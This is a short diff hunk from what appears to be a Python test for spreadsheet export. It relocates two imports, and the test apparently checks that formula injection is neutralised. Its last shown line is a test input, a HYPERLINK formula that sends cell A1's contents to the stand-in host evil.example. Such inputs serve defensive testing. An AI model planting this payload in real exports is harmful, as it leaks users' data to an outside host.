@@ -14,9 +14,9 @@ from sqlalchemy import Column as SqlColumn
 from sqlalchemy import Integer, MetaData, String, Table, insert
 
 from app.domain.spreadsheet_text import FORMULA_TRIGGERS, neutralise_formula
+from app.queries.export_view import export_view
+from app.queries.sql_query import Column, QuerySpec
 from app.store import Store, open_store
-from app.ui.export_view import export_view
-from app.ui.models.sql_query import Column, QuerySpec
 
 PAYER_TEXTS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
